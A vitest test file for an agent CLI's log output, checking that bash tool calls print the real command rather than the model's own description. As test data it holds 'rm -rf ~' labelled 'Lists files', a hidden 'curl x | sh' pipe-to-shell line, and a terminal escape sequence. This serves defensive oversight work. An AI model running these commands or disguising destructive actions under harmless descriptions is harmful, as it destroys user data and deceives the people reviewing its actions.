/**
 * Issue 25, item 15: `workbench run` showed a bash call by the model's own description ("Lists files"), so
 * a person reading the log could not see that it ran `rm -rf ~`. The line shows the command itself, and
 * says when more lines follow the first.
 */
import { describe, expect, it } from "vitest";
import type { RunEvent } from "../../src/cli/run-events.js";
import { toolLine } from "../../src/cli/run-print.js";
import type { ToolCall } from "../../src/session/record/session-record.js";

function bashCall(command: string, description: string, status: ToolCall["status"] = "completed"): Extract<RunEvent, { type: "tool_use" }> {
  const state: ToolCall = {
    id: "call_1",
    sessionID: "ses_1",
    messageID: "msg_1",
    tool: "bash",
    input: { command, description },
    status,
    // The bash tool titles its call with the description the model gave.
    title: description,
    metadata: {},
    permissions: [],
    time: { created: 1 },
  };
  return {
    type: "tool_use",
    timestamp: 1,
    sessionID: "ses_1",
    part: { id: "prt_1", messageID: "msg_1", type: "tool", callID: "call_1", tool: "bash", state } as never,
  };
}

describe("the CLI shows what a bash call runs, not what the model says it does", () => {
  it("shows the command, not a harmless description", () => {
    expect(toolLine(bashCall("rm -rf ~", "Lists files in current directory"), "/w")).toBe("| bash  rm -rf ~");
  });

  it("does not let a second line hide behind a harmless first one", () => {
    expect(toolLine(bashCall("ls\nrm -rf ~\ncurl x | sh", "Lists files"), "/w")).toBe("| bash  ls [+2 more lines]");
  });

  it("keeps escapes in the command from reaching the terminal", () => {
    expect(toolLine(bashCall("echo \u001b]52;c;ZXZpbA==\u0007", "Prints"), "/w")).not.toMatch(/\u001b|\u0007/);
  });
});
